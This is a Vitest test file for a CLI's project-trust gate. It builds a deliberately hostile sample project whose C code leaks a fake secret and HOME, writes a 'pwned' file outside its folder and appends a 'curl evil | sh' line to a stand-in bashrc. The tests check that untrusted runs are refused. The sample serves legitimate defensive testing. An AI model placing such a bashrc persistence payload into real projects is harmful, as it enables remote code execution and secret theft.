import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appRoot, samplesDir } from '../paths';
import { TrustStore } from '../services/trust-store';

// A downloaded project, run through the built CLI as a user would: it mounts the folder two
// levels up read-write and inherits HOME and a secret. The host side is checked after each run.
const SECRET = 'fake-secret-3f9a1c';
const BASHRC = '# the user\'s own bashrc\n';
let root: string;
let outer: string;
let hostile: string;
let fakeHome: string;
let configDir: string;

const cli = (...args: string[]) => {
  const r = spawnSync(process.execPath, [join(appRoot, 'bin/component-studio.js'), ...args], {
    encoding: 'utf8',
    timeout: 120_000,
    env: { ...process.env, HOME: fakeHome, STUDIO_FAKE_SECRET: SECRET, COMPONENT_STUDIO_CONFIG_DIR: configDir },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
};
const untouched = () => {
  expect(readdirSync(outer).sort()).toEqual(['bashrc', 'inner']);
  expect(readFileSync(join(outer, 'bashrc'), 'utf8')).toBe(BASHRC);
};

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'cli-trust-')));
  outer = join(root, 'outer');
  hostile = join(outer, 'inner/hostile');
  fakeHome = join(root, 'home-of-the-user');
  configDir = join(root, 'config');
  mkdirSync(fakeHome);
  cpSync(join(samplesDir(), 'hello-c'), hostile, { recursive: true, filter: (s) => !s.includes('/build') });
  writeFileSync(join(outer, 'bashrc'), BASHRC);
  writeFileSync(
    join(hostile, 'src/main.c'),
    '#include <stdio.h>\n#include <stdlib.h>\nint main(void) {\n  const char* s = getenv("STUDIO_FAKE_SECRET"); const char* h = getenv("HOME");\n' +
      '  printf("secret=%s home=%s\\n", s ? s : "-", h ? h : "-");\n' +
      '  FILE* f = fopen("/up/pwned.txt", "w"); if (f) { fputs("pwned\\n", f); fclose(f); puts("wrote outside"); }\n' +
      '  FILE* b = fopen("/up/bashrc", "a"); if (b) { fputs("curl evil | sh\\n", b); fclose(b); }\n  return 0;\n}\n',
  );
  const config = JSON.parse(readFileSync(join(hostile, 'studio.json'), 'utf8'));
  const policy = { mounts: [{ host: '../..', guest: '/up', mode: 'rw' }], env: [{ name: 'HOME' }, { name: 'STUDIO_FAKE_SECRET' }] };
  writeFileSync(join(hostile, 'studio.json'), JSON.stringify({ ...config, policy }));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('project trust on the command line', () => {
  it('run, call and build of the hostile project exit 2 listing its grants; nothing is built, printed or written outside', () => {
    for (const [args, action] of [[['run', hostile], 'Run'], [['run', hostile, '--engine', 'both', '--json'], 'Run'], [['call', hostile, 'greet'], 'Call'], [['build', hostile], 'Build']] as const) {
      const r = cli(...args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain(`${action} refused: this project is not trusted`);
      expect(r.stderr).toContain(`  - read, change, create and delete files in ${outer} (studio.json mounts "../.." at /up)`);
      expect(r.stderr).toContain('  - read your environment variable HOME');
      expect(r.stderr).toContain('  - read your environment variable STUDIO_FAKE_SECRET');
      expect(r.stderr).toContain('add --trust');
      expect(r.stderr + r.stdout).not.toContain(SECRET);
      expect(r.stderr + r.stdout).not.toContain(fakeHome);
    }
    expect(existsSync(join(hostile, 'build'))).toBe(false);
    expect(existsSync(join(hostile, '.studio'))).toBe(false);
    untouched();
    expect(existsSync(join(configDir, 'trust.json'))).toBe(false);
  });

  it('a typed --dir outside the project and a typed --env need no trust: the user\'s own grants', () => {
    const clean = join(root, 'clean');
    cpSync(hostile, clean, { recursive: true });
    const config = JSON.parse(readFileSync(join(clean, 'studio.json'), 'utf8'));
    writeFileSync(join(clean, 'studio.json'), JSON.stringify({ ...config, policy: {} }));
    const r = cli('run', clean, '--dir', `${outer}::/up`, '--env', 'STUDIO_FAKE_SECRET');
    expect(r.stderr).not.toContain('refused');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`secret=${SECRET} home=-`);
    expect(readFileSync(join(outer, 'pwned.txt'), 'utf8')).toBe('pwned\n');
    rmSync(join(outer, 'pwned.txt'));
    writeFileSync(join(outer, 'bashrc'), BASHRC);
    rmSync(clean, { recursive: true });
  });

  it('the same grants typed as flags cover what the project asks for; a typed read-only mount does not cover its read-write one', () => {
    const partly = cli('run', hostile, '--env', 'HOME', '--env', 'STUDIO_FAKE_SECRET', '--dir', `${outer}::/elsewhere::ro`);
    expect(partly.code).toBe(2);
    expect(partly.stderr).toContain(`  - read, change, create and delete files in ${outer}`);
    expect(partly.stderr).not.toContain('read your environment variable');
    untouched();
    const typed = cli('run', hostile, '--env', 'HOME', '--env', 'STUDIO_FAKE_SECRET', '--dir', `${outer}::/elsewhere`);
    expect(typed.stderr).not.toContain('refused');
    expect(typed.code).toBe(0);
    expect(typed.stdout).toContain(`secret=${SECRET} home=${fakeHome}`);
    rmSync(join(outer, 'pwned.txt'));
    writeFileSync(join(outer, 'bashrc'), BASHRC);
  });

  it('--trust runs it for this command only (nothing recorded); a folder trusted in the studio runs without it', () => {
    const r = cli('run', hostile, '--trust');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`secret=${SECRET} home=${fakeHome}`);
    expect(r.stdout).toContain('wrote outside');
    expect(readFileSync(join(outer, 'bashrc'), 'utf8')).toBe(BASHRC + 'curl evil | sh\n');
    expect(existsSync(join(configDir, 'trust.json'))).toBe(false);
    rmSync(join(outer, 'pwned.txt'));
    writeFileSync(join(outer, 'bashrc'), BASHRC);
    expect(cli('run', hostile).code).toBe(2);

    new TrustStore(configDir).decide(hostile, [`mount:rw:${outer}`, 'env:HOME', 'env:STUDIO_FAKE_SECRET'], true);
    const trusted = cli('run', hostile);
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toContain(`secret=${SECRET}`);
    rmSync(join(outer, 'pwned.txt'));
    writeFileSync(join(outer, 'bashrc'), BASHRC);
  });

  it('--help of run, call and build documents --trust', () => {
    for (const command of ['run', 'call', 'build']) expect(cli(command, '--help').stdout).toContain('--trust');
  });
});
